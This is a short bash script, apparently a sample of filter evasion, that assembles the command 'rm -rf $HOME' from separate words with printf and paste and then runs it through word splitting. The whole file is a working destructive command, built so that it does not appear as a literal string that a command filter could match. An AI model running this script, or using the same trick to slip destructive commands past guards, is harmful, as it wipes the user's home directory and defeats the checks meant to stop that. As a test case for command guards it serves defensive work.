#!/bin/bash
# evasion: the words of a command line, one a line, joined by paste -s with a space delimiter and run by word splitting
line=$(printf '%s\n' rm -rf "$HOME" | paste -s -d ' ' -)
$line
